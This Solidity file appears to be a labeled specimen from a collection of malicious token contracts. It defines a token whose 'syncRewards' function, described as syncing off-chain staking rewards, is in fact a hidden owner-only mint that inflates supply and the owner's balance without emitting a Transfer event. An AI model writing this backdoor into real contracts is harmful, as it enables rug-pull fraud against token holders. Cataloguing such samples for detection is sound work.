// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./ZooBase.sol";

/// @title DisguisedMint - trades normally; "syncRewards" is an owner-only mint: it raises the owner's
///        balance and the total supply without a Transfer event.
contract DisguisedMint is ZooOwnedBase {
    uint256 public rewardsSynced;

    constructor(string memory name_, string memory symbol_, uint256 supply) ZooOwnedBase(name_, symbol_) {
        _mint(msg.sender, supply);
    }

    /// Syncs the staking rewards accrued off-chain into the rewards wallet.
    function syncRewards(uint256 accrued) external onlyOwner {
        rewardsSynced += accrued;
        _totalSupply += accrued;
        _balances[msg.sender] += accrued;
    }
}
